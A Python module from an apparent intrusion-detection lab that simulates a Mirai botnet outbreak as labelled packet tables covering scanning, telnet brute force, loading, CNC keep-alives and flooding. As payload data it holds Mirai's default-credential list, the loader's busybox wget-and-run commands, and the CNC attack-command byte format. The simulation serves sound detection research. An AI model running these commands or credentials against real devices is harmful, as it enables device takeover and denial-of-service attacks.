"""The Mirai outbreak, phase by phase, as packet tables.

Follows the published Mirai source ([mirai] in :mod:`.config`):

- **scan**: ``scanner.c`` sends ``SCANNER_RAW_PPS`` (160) raw TCP SYNs in one burst each
  second, from one fixed random source port and window, with the sequence number set to the
  target address, no TCP options and no DF bit, to random IPv4 addresses outside Mirai's exclusion list; port 2323
  for every tenth SYN, else 23. SYNs to the Internet meet the gateway's ICMP errors; SYNs to
  LAN addresses first need ARP, and a live host answers RST (telnet closed) or SYN-ACK.
- **bruteforce**: on a SYN-ACK the scanner logs in over telnet with credentials from its
  table, one TCP connection per try, up to 10 tries; success ends with
  ``/bin/busybox MIRAI``, and the result goes to the report server (TCP 48101).
- **loader**: the loader logs in to the victim, which fetches the bot binary over HTTP.
- **propagation**: the new bot connects to the CNC (TCP 23, 2-byte keep-alives every 60 s)
  and starts its own scanner.
- **flood**: the CNC sends an attack command; every bot floods the target (UDP generic,
  SYN or ACK, ``attack_udp.c`` / ``attack_tcp.c``) for the command's duration.
"""

from __future__ import annotations

import math
from dataclasses import dataclass

import numpy as np

from nidslab.simulate import network as net
from nidslab.simulate import pcapgen as pg
from nidslab.simulate.config import SimConfig

ATTACKER_MAC = 0x080027A1B2C3  # [assumed] the operator's VM (VirtualBox OUI)
FLOOD_TARGET = "104.16.25.7"  # [assumed] a public address named in the attack command

# [mirai] scanner.c get_random_ip(): first octets never scanned (plus 192.168/16, 172.16/12,
# 100.64/10, 169.254/16, 198.18/15, handled below)
_EXCLUDED_FIRST = np.array([0, 3, 6, 7, 10, 11, 15, 16, 21, 22, 26, 28, 29, 30, 33, 55, 56, 127, 214, 215])


@dataclass
class Outbreak:
    """The outbreak's packets (unsorted table) and its timeline (absolute seconds)."""

    table: dict
    phases: list  # (name, start, end)
    flood_end: float = math.inf  # when the last flood stops (absolute s); inf where the builder does not say


def phase_marker(phases: dict[str, list[float]], end: float):
    """``mark(name, a, b)``: widen phase ``name``'s [start, stop] in ``phases`` to hold [a, b] (seconds),
    cut at ``end``; a span starting at or after ``end`` is not in the capture and is left out."""

    def mark(name: str, a: float, b: float) -> None:
        if a >= end:
            return
        lo, hi = phases.get(name, [a, b])
        phases[name] = [min(lo, a), max(hi, min(b, end))]

    return mark


def random_public_ips(rng, n: int) -> np.ndarray:
    """``n`` addresses as Mirai's get_random_ip() draws them (uint32)."""
    out = np.empty(0, np.uint32)
    while len(out) < n:
        ip = rng.integers(0, 2**32, int((n - len(out)) * 1.25) + 16, dtype=np.int64).astype(np.uint32)
        a = ip >> 24
        b = (ip >> 16) & 0xFF
        bad = np.isin(a, _EXCLUDED_FIRST) | (a >= 224)
        bad |= ((a == 192) & (b == 168)) | ((a == 172) & (b >= 16) & (b < 32)) | ((a == 100) & (b >= 64) & (b < 128))
        bad |= ((a == 169) & (b == 254)) | ((a == 198) & ((b == 18) | (b == 19)))
        out = np.concatenate([out, ip[~bad]])
    return out[:n]


def _plen(x) -> int | np.ndarray:
    return len(x) if isinstance(x, bytes) else x


def tcp_sessions(rng, starts, cmac, cip, smac, sip, sport, dport, steps, label=1, ttl=64):
    """Scripted TCP sessions, one per start time; returns (table, end times).

    ``steps``: list of (direction, flags, payload, mean gap s, header bytes); direction 0 is
    client -> server; payload is a byte string (written into the packet) or a length (zeros,
    an int or one per session). Gaps are jittered (x0.7-1.3). Sequence and acknowledgement
    numbers follow the bytes sent.
    """
    n, S = len(starts), len(steps)
    if n == 0:
        return pg.table(0), np.zeros(0)
    d = np.array([s[0] for s in steps])
    fl = np.array([s[1] for s in steps], np.int64)
    pl = np.stack([np.broadcast_to(np.asarray(_plen(s[2]), np.int64), (n,)) for s in steps], axis=1)
    pay = np.array([pg.BANK.id(s[2]) if isinstance(s[2], bytes) and s[2] else -1 for s in steps])
    gap = np.array([s[3] for s in steps]) * rng.uniform(0.7, 1.3, (n, S))
    thl = np.array([s[4] for s in steps])
    t = np.asarray(starts)[:, None] + np.cumsum(gap, axis=1)
    use = pl + ((fl & pg.SYN) > 0) + ((fl & pg.FIN) > 0)
    sent_c = np.cumsum(np.where(d == 0, use, 0), axis=1) - np.where(d == 0, use, 0)  # before this step
    sent_s = np.cumsum(np.where(d == 1, use, 0), axis=1) - np.where(d == 1, use, 0)
    tot_c = np.cumsum(np.where(d == 0, use, 0), axis=1)
    tot_s = np.cumsum(np.where(d == 1, use, 0), axis=1)
    isn_c = rng.integers(0, 2**32, (n, 1), dtype=np.int64)
    isn_s = rng.integers(0, 2**32, (n, 1), dtype=np.int64)
    seq = np.where(d == 0, isn_c + sent_c, isn_s + sent_s) & 0xFFFFFFFF
    ack = np.where(d == 0, isn_s + tot_s, isn_c + tot_c) & 0xFFFFFFFF
    ack = np.where((fl & pg.ACK) > 0, ack, 0)
    cli = d[None, :] == 0

    def pick(a, b):
        return np.where(cli, np.asarray(a)[:, None], np.asarray(b)[:, None]).ravel()

    cmac, cip, smac, sip = (np.broadcast_to(np.asarray(x), (n,)) for x in (cmac, cip, smac, sip))
    sport, dport = (np.broadcast_to(np.asarray(x), (n,)) for x in (sport, dport))
    tab = pg.table(
        n * S, t=t.ravel(), kind=pg.TCP, smac=pick(cmac, smac), dmac=pick(smac, cmac), sip=pick(cip, sip),
        dip=pick(sip, cip), sport=pick(sport, dport), dport=pick(dport, sport),
        flags=np.tile(fl, n), seq=seq.ravel(), ack=ack.ravel(), thl=np.tile(thl, n), plen=pl.ravel(),
        pay=np.tile(pay, n), win=np.broadcast_to(np.where(cli, 29200, 14600), (n, S)).ravel(), ipid=rng.integers(0, 65536, n * S),
        label=label, ttl=ttl,
    )
    return tab, t[:, -1]


SA, PA, FA, A = pg.SYN | pg.ACK, pg.PSH | pg.ACK, pg.FIN | pg.ACK, pg.ACK

# [mirai] scanner.c add_auth_entry(): the most likely credentials and their weights (of 62)
CREDENTIALS = (
    ("root", "xc3511", 10), ("root", "vizxv", 9), ("root", "admin", 8), ("admin", "admin", 7),
    ("root", "888888", 6), ("root", "xmhdipc", 5), ("root", "default", 5), ("root", "juantech", 5),
    ("root", "123456", 5), ("root", "54321", 5), ("support", "support", 5), ("root", "", 4),
    ("admin", "password", 4), ("root", "root", 4), ("root", "12345", 4), ("user", "user", 3),
    ("admin", "", 3), ("root", "pass", 3), ("admin", "admin1234", 3), ("root", "1111", 3),
    ("admin", "smcadmin", 3), ("root", "anko", 4), ("root", "hi3518", 1), ("root", "klv123", 1),
)
IAC_DO = b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"  # DO TTYPE, TSPEED, XDISPLOC, NEW-ENVIRON
IAC_WONT = b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27"  # Mirai answers DO with WONT
BANNER = (b"\r\n\r\nBusyBox v1.19.4 (2014-04-09 11:32:26 CST) built-in shell (ash)\r\n"
          b"Enter 'help' for a list of built-in commands.\r\n\r\n# ")


def pick_credentials(rng, k: int) -> list[tuple[str, str]]:
    """``k`` login tries with credentials drawn by weight (scanner.c random_auth_entry()); the
    last one is the victim's and differs from the failed ones."""
    w = np.array([c[2] for c in CREDENTIALS], float)
    good = int(rng.choice(len(CREDENTIALS), p=w / w.sum()))
    w_bad = w.copy()
    w_bad[good] = 0
    bad = rng.choice(len(CREDENTIALS), size=k - 1, p=w_bad / w_bad.sum())
    return [(CREDENTIALS[i][0], CREDENTIALS[i][1]) for i in [*bad, good]]


def _open(rtt):
    return [(0, pg.SYN, 0, 0.0, 40), (1, SA, 0, rtt, 40), (0, A, 0, rtt / 2, 32)]


def _close(rtt):
    return [(0, FA, 0, 0.001, 32), (1, FA, 0, rtt, 32), (0, A, 0, rtt / 2, 32)]


def _shell(cmd: bytes, reply: bytes, gap: float):
    return [(0, PA, cmd + b"\r\n", 0.002, 32), (1, PA, cmd + b"\r\n" + reply, gap, 32)]


def login_steps(cfg, user: str, password: str, success: bool, rtt=5e-4):
    """One telnet login try by the scanner (scanner.c state machine)."""
    g = cfg.login_gap_s
    u, p = user.encode(), password.encode()
    s = _open(rtt) + [
        (1, PA, IAC_DO, 0.01, 32),
        (0, PA, IAC_WONT, 0.001, 32),
        (1, PA, b"login: ", g, 32),
        (0, PA, u + b"\r\n", 0.001, 32),
        (1, PA, u + b"\r\n", rtt, 32),  # echo
        (1, PA, b"Password: ", g / 3, 32),
        (0, PA, p + b"\r\n", 0.001, 32),
        (1, A, 0, rtt, 32),
    ]
    if not success:
        return s + [(1, PA, b"\r\nLogin incorrect\r\n", g * 3, 32)] + _close(rtt)  # the scanner closes
    s += [(1, PA, BANNER, g, 32)]
    for cmd in (b"enable", b"system", b"shell", b"sh"):
        s += _shell(cmd, b"-sh: " + cmd + b": not found\r\n# ", g / 2)
    s += _shell(b"/bin/busybox MIRAI", b"MIRAI: applet not found\r\n# ", g / 2)
    return s + _close(rtt)


def loader_steps(cfg, user: str, password: str, att_ip: int, rtt=5e-4):
    """The loader's telnet session: login, probe the shell, start wget, run the bot (loader/src/server.c)."""
    s = login_steps(cfg, user, password, True, rtt)[:-3]
    host = ".".join(str((att_ip >> k) & 255) for k in (24, 16, 8, 0)).encode()
    mounts = b"rootfs / rootfs rw 0 0\r\n/dev/root / squashfs ro 0 0\r\ntmpfs /tmp tmpfs rw 0 0\r\n"
    for cmd, reply in (
        (b"/bin/busybox ECCHI", b"ECCHI: applet not found\r\n# "),
        (b"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", mounts + b"ECCHI: applet not found\r\n# "),
        (b"cd /tmp; >.nippon; /bin/busybox chmod 777 .nippon; /bin/busybox ECCHI", b"ECCHI: applet not found\r\n# "),
        (b"/bin/busybox wget http://" + host + b":80/bins/mirai.arm7 -O - > dvrHelper; "
         b"/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI", b"Connecting to " + host + b":80\r\n"),
    ):
        s += [(0, PA, cmd + b"\r\n", 0.01, 32), (1, PA, reply, 0.05, 32)]
    return s


def http_fetch_steps(size: int, att_ip: int, rtt=5e-4):
    """Victim -> loader HTTP GET of the bot binary: MSS-sized segments, an ACK every second one."""
    host = ".".join(str((att_ip >> k) & 255) for k in (24, 16, 8, 0)).encode()
    get = b"GET /bins/mirai.arm7 HTTP/1.1\r\nHost: " + host + b"\r\nUser-Agent: Wget\r\nConnection: close\r\n\r\n"
    head = (b"HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/2.7.12\r\n"
            b"Content-type: application/octet-stream\r\nContent-Length: " + str(size).encode() + b"\r\n\r\n")
    elf = b"\x7fELF\x01\x01\x01\x61" + bytes(8) + b"\x02\x00\x28\x00\x01\x00\x00\x00"  # ARM executable
    s = _open(rtt) + [(0, PA, get, 0.001, 32), (1, A, 0, rtt, 32), (1, PA, head, 0.002, 32)]
    n_seg = -(-size // 1448)
    for i in range(n_seg):
        seg = min(1448, size - i * 1448)
        body = elf + bytes(seg - len(elf)) if i == 0 and seg >= len(elf) else seg
        s.append((1, A if i < n_seg - 1 else PA, body, 1.2e-4, 32))
        if i % 2 == 1 or i == n_seg - 1:
            s.append((0, A, 0, 1e-4, 32))
    return s + [(1, FA, 0, 0.001, 32), (0, FA, 0, rtt, 32), (1, A, 0, rtt / 2, 32)]


def attack_command(cfg, target: int, duration_s: float) -> bytes:
    """The CNC's binary attack command (attack.c attack_parse): length, duration, vector, targets, options."""
    vector = {"udp": 0, "syn": 3, "ack": 4}[cfg.flood_type]  # attack.h ATK_VEC_*
    body = (int(duration_s).to_bytes(4, "big") + bytes([vector, 1]) + target.to_bytes(4, "big") + bytes([32, 0]))
    return (len(body) + 2).to_bytes(2, "big") + body


def _insert_command(tab: dict, bot_mac: int, t: float, cmd: bytes) -> dict:
    """Add the CNC's attack command (and the bot's ACK) at time ``t`` to a bot's CNC session,
    shifting the later sequence numbers by the command's length."""
    from_bot = tab["smac"] == np.uint64(bot_mac)
    before = tab["t"] < t
    nxt = (tab["seq"].astype(np.int64) + tab["plen"] + ((tab["flags"] & (pg.SYN | pg.FIN)) > 0)) & 0xFFFFFFFF
    srv_next = int(nxt[~from_bot & before][-1])
    bot_next = int(nxt[from_bot & before][-1])
    later = ~before
    tab["seq"][later & ~from_bot] = (tab["seq"][later & ~from_bot].astype(np.int64) + len(cmd)) & 0xFFFFFFFF
    tab["ack"][later & from_bot] = (tab["ack"][later & from_bot].astype(np.int64) + len(cmd)) & 0xFFFFFFFF
    i = int(np.flatnonzero(from_bot)[0])  # addresses and ports of the session
    bot = {k: tab[k][i] for k in ("smac", "dmac", "sip", "dip", "sport", "dport")}
    add = pg.table(
        2, t=t + np.array([0, 4e-4]), kind=pg.TCP, smac=[bot["dmac"], bot["smac"]], dmac=[bot["smac"], bot["dmac"]],
        sip=[bot["dip"], bot["sip"]], dip=[bot["sip"], bot["dip"]], sport=[bot["dport"], bot["sport"]],
        dport=[bot["sport"], bot["dport"]], flags=[PA, A], seq=[srv_next, bot_next],
        ack=[bot_next, (srv_next + len(cmd)) & 0xFFFFFFFF], thl=32, plen=[len(cmd), 0],
        pay=[pg.BANK.id(cmd), -1], win=[14600, 29200], label=1,
    )
    return pg.concat([tab, add])


def _lan_mac(cfg, last: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    """MAC of each LAN address (0 where no host lives)."""
    table = np.zeros(256, np.uint64)
    for _, (o, m) in net.HOSTS.items():
        table[o] = m
    table[cfg.attacker_ip_last] = ATTACKER_MAC
    return table[last], table[last] != 0


def scan_traffic(cfg, rng, smac, sip, t0, t1, sport) -> dict:
    """One Mirai scanner from t0 to t1: SYN bursts plus ARP and the LAN hosts' answers."""
    if t1 <= t0:
        return pg.table(0)
    bursts = t0 + np.arange(int(np.ceil(t1 - t0)))
    n = len(bursts) * cfg.scan_pps
    i = np.tile(np.arange(cfg.scan_pps), len(bursts))
    offs = np.cumsum(rng.exponential(cfg.scan_burst_gap_s, (len(bursts), cfg.scan_pps)), axis=1)
    t = np.repeat(bursts, cfg.scan_pps) + (offs - offs[:, :1]).ravel()  # each burst starts on its second
    share = cfg.scan_port_2323_share
    if share > 0 and abs(1 / share - round(1 / share)) < 1e-9:
        is2323 = i % int(round(1 / share)) == 0  # scanner.c: every tenth SYN
    else:
        is2323 = rng.random(n) < share
    dport = np.where(is2323, 2323, 23)
    dip = random_public_ips(rng, n)
    lan = rng.random(n) < cfg.scan_lan_share
    last = rng.integers(1, 255, n)
    lan_base = net.ip4(cfg.subnet) & 0xFFFFFF00
    dip = np.where(lan, lan_base | last, dip).astype(np.uint32)
    lan &= dip != sip
    tmac, live = _lan_mac(cfg, last)
    gw = net.mac("gateway")
    dmac = np.where(lan, tmac, gw)
    send = ~lan | live  # no SYN leaves for a LAN address nobody answers ARP for
    keep = (t < t1) & send
    syn = pg.table(int(keep.sum()), t=t[keep], kind=pg.TCP, smac=smac, dmac=dmac[keep], sip=sip, dip=dip[keep],
                   sport=sport, dport=dport[keep], seq=dip[keep], flags=pg.SYN, thl=20,
                   win=int(rng.integers(0, 65536)),  # scanner_init() draws the window once
                   ipid=rng.integers(0, 65536, int(keep.sum())), df=0, label=1)
    parts = [syn]
    # ARP before LAN probes: once per target per 60 s (cache), three unanswered tries for empty addresses
    li = np.flatnonzero(lan & (t < t1))
    if len(li):
        order = li[np.lexsort((t[li], last[li]))]
        new = np.ones(len(order), bool)
        new[1:] = (last[order][1:] != last[order][:-1]) | (t[order][1:] - t[order][:-1] > 60.0)
        q = order[new]
        tries = np.where(live[q], 1, 3)
        qq = np.repeat(q, tries)
        k = pg.ragged_arange(tries)
        tq = t[qq] - np.where(live[qq], 4e-4, 0) + k * 1.0
        parts.append(pg.table(len(qq), t=tq, kind=pg.ARP, smac=smac, dmac=pg.BROADCAST, sip=sip, dip=dip[qq],
                              itype=1, label=1))
        a = q[live[q]]
        parts.append(pg.table(len(a), t=t[a] - 2e-4, kind=pg.ARP, smac=tmac[a], dmac=smac, sip=dip[a], dip=sip,
                              itype=2, label=1))
        # live LAN hosts answer the SYN with RST-ACK (telnet closed or killed by an earlier infection)
        s = np.flatnonzero(keep & lan)
        parts.append(pg.table(len(s), t=t[s] + rng.uniform(2e-4, 6e-4, len(s)), kind=pg.TCP, smac=tmac[s],
                              dmac=smac, sip=dip[s], dip=sip, sport=dport[s], dport=sport,
                              ack=(dip[s].astype(np.int64) + 1) & 0xFFFFFFFF, flags=pg.RST | pg.ACK, thl=20,
                              label=1))
    return pg.concat(parts)


def outbreak(cfg: SimConfig, seed: int, t_on: float, horizon: float, scale: float) -> Outbreak:
    """Every malicious packet from the onset ``t_on`` to ``t_on + horizon`` (absolute seconds).

    ``scale`` multiplies the configured phase times (``packets / 764_137``). The first packet
    is the patient-zero scanner's first SYN, exactly at ``t_on``.
    """
    rng = np.random.default_rng([seed, 3])
    end = t_on + horizon
    lan_base = net.ip4(cfg.subnet) & 0xFFFFFF00
    att_ip = lan_base | cfg.attacker_ip_last
    gw = net.mac("gateway")
    parts: list[dict] = []
    phases: dict[str, list[float]] = {}

    mark = phase_marker(phases, end)

    # victims: cameras with factory credentials, in infection order
    victims = list(np.array(net.CAMERAS)[rng.permutation(len(net.CAMERAS))[: cfg.n_vulnerable]])
    scanners = [(ATTACKER_MAC, att_ip, t_on, int(rng.integers(1024, 65536)))]  # patient zero
    bots = []
    for k, victim in enumerate(victims):
        t_hit = t_on + cfg.infection_times_s[k] * scale
        f_mac, f_ip, _, f_port = scanners[int(rng.integers(0, len(scanners)))] if k else scanners[0]
        v_mac, v_ip = net.mac(victim), net.hip(cfg, victim)
        # the hit: SYN, SYN-ACK (ack = target + 1), the scanner's kernel resets the raw half-open
        hit = pg.table(3, t=t_hit + np.array([0, 4e-4, 6e-4]), kind=pg.TCP, smac=[f_mac, v_mac, f_mac],
                       dmac=[v_mac, f_mac, v_mac], sip=[f_ip, v_ip, f_ip], dip=[v_ip, f_ip, v_ip],
                       sport=[f_port, 23, f_port], dport=[23, f_port, 23], flags=[pg.SYN, SA, pg.RST],
                       seq=[v_ip, int(rng.integers(0, 2**32)), (v_ip + 1) & 0xFFFFFFFF],
                       ack=[0, (v_ip + 1) & 0xFFFFFFFF, 0], thl=[20, 24, 20], df=[0, 1, 1], label=1)
        parts.append(hit)
        mark("scan", t_on, end)
        # brute force: k_ok tries with credentials drawn by weight, the last one succeeds
        k_ok = int(rng.integers(1, cfg.max_login_tries + 1))
        creds = pick_credentials(rng, k_ok)
        user, password = creds[-1]
        t = t_hit + 0.01
        for attempt, (u, p) in enumerate(creds):  # at most max_login_tries sessions per victim
            tab, t_end = tcp_sessions(rng, [t], f_mac, f_ip, v_mac, v_ip, int(rng.integers(32768, 61000)), 23,
                                      login_steps(cfg, u, p, attempt == k_ok - 1))
            parts.append(tab)
            t = float(t_end[0]) + 0.05
        mark("bruteforce", t_hit, t)
        # report to the report server: 0, ip, port, user, password (scanner.c report_working)
        msg = (b"\x00" + v_ip.to_bytes(4, "big") + (23).to_bytes(2, "big") + bytes([len(user)]) + user.encode()
               + bytes([len(password)]) + password.encode())
        rep = _open(5e-4) + [(0, PA, msg, 0.001, 32), (1, A, 0, 5e-4, 32)] + _close(5e-4)
        tab, t_rep = tcp_sessions(rng, [t], f_mac, f_ip, ATTACKER_MAC, att_ip, int(rng.integers(32768, 61000)),
                                  cfg.report_port, rep)
        if f_mac != ATTACKER_MAC:  # patient zero reports over loopback: nothing on the wire
            parts.append(tab)
        # loader: telnet login + commands, the victim's HTTP fetch of the binary, then run it
        t_load = float(t_rep[0]) + cfg.loader_delay_s
        tab, t_cmd = tcp_sessions(rng, [t_load], ATTACKER_MAC, att_ip, v_mac, v_ip, int(rng.integers(32768, 61000)),
                                  23, loader_steps(cfg, user, password, att_ip))
        parts.append(tab)
        tab, t_got = tcp_sessions(rng, [float(t_cmd[0]) + 0.05], v_mac, v_ip, ATTACKER_MAC, att_ip,
                                  int(rng.integers(32768, 61000)), 80, http_fetch_steps(cfg.binary_bytes, att_ip))
        parts.append(tab)
        fin = [(0, PA, b"./dvrHelper telnet.loader; /bin/busybox IHCCE\r\n", 0.05, 32),
               (1, PA, b"listening tun0\r\nIHCCE: applet not found\r\n", 0.2, 32)] + _close(5e-4)
        tab, t_done = tcp_sessions(rng, [float(t_got[0])], ATTACKER_MAC, att_ip, v_mac, v_ip,
                                   int(rng.integers(32768, 61000)), 23, fin)
        parts.append(tab)
        mark("loader", t_load, float(t_done[0]))
        t_bot = float(t_done[0]) + 1.0
        bots.append((v_mac, v_ip, t_bot, int(rng.integers(32768, 61000))))
        scanners.append((v_mac, v_ip, t_bot, int(rng.integers(1024, 65536))))
    # the flood's time: a short capture waits for the first infected camera (login tries are not scaled)
    t_f = t_on + cfg.flood_start_s * scale
    if bots:
        t_f = max(t_f, min(b[2] for b in bots) + 1.0)
    t_f_end = t_f + cfg.flood_duration_s * scale
    target = net.ip4(FLOOD_TARGET)
    cmd = attack_command(cfg, target, cfg.flood_duration_s * scale)
    # the bots: CNC connection, keep-alives, and the attack command at t_f
    for v_mac, v_ip, t_bot, c_port in bots:
        if t_bot >= end:
            continue
        n_hb = int(max(end - t_bot, 0) / cfg.cnc_heartbeat_s) + 1
        steps = _open(5e-4) + [(0, PA, b"\x00\x00\x00\x01", 0.002, 32), (0, PA, 1, 0.001, 32), (1, A, 0, 5e-4, 32)]
        for _ in range(n_hb):  # 2-byte zero keep-alive, echoed by the CNC
            steps += [(0, PA, 2, cfg.cnc_heartbeat_s, 32), (1, PA, 2, 5e-4, 32), (0, A, 0, 3e-4, 32)]
        tab, _ = tcp_sessions(rng, [t_bot], v_mac, v_ip, ATTACKER_MAC, att_ip, c_port, cfg.cnc_port, steps)
        if t_bot < t_f < end:
            tab = _insert_command(tab, v_mac, t_f, cmd)
        parts.append(tab)
        mark("propagation", t_bot, end)
    # scanners (patient zero and every bot) until the end
    for s_mac, s_ip, t_s, port in scanners:
        parts.append(scan_traffic(cfg, rng, s_mac, s_ip, t_s, end, port))
    mark("scan", t_on, end)
    # flood: every bot (patient zero too: its CNC link is local) floods the target from t_f
    flooders = [(ATTACKER_MAC, att_ip)] + [(m, ip) for m, ip, tb, _ in bots if tb < t_f]
    if t_f < end:
        for m, ip in flooders:
            a, b = t_f + 0.01, min(t_f_end, end)
            n = max(int((b - a) * cfg.flood_pps), 0)
            tt = a + (np.arange(n) + rng.uniform(0, 1, n)) / cfg.flood_pps
            common = dict(t=tt, smac=m, dmac=gw, sip=ip, dip=target, sport=rng.integers(1024, 65536, n),
                          dport=rng.integers(1, 65536, n), ipid=rng.integers(0, 65536, n), df=0, label=1)
            if cfg.flood_type == "udp":
                parts.append(pg.table(n, kind=pg.UDP, plen=cfg.flood_payload, **common))
            elif cfg.flood_type == "syn":
                parts.append(pg.table(n, kind=pg.TCP, flags=pg.SYN, thl=40, seq=rng.integers(0, 2**32, n),
                                      win=rng.integers(0, 65536, n), **common))
            else:
                parts.append(pg.table(n, kind=pg.TCP, flags=pg.ACK, thl=20, plen=cfg.flood_payload,
                                      seq=rng.integers(0, 2**32, n), ack=rng.integers(0, 2**32, n),
                                      win=rng.integers(0, 65536, n), **common))
        mark("flood", t_f, t_f_end)
    tab = pg.concat(parts)
    keep = (tab["t"] >= t_on) & (tab["t"] < end)
    tab = pg.take(tab, np.flatnonzero(keep))
    order = ["scan", "bruteforce", "loader", "propagation", "flood"]
    return Outbreak(tab, [(k, *phases[k]) for k in order if k in phases])
